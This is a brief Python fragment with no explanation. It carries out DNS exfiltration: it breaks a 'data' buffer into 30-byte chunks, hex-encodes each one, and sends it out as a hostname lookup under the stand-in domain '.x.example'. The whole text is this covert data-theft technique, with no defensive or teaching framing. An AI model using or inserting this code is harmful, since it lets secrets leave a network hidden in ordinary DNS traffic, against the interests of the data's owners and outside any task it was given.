import socket, binascii
for i in range(0, len(data), 30):
    socket.gethostbyname(binascii.hexlify(data[i:i+30]).decode() + ".x.example")
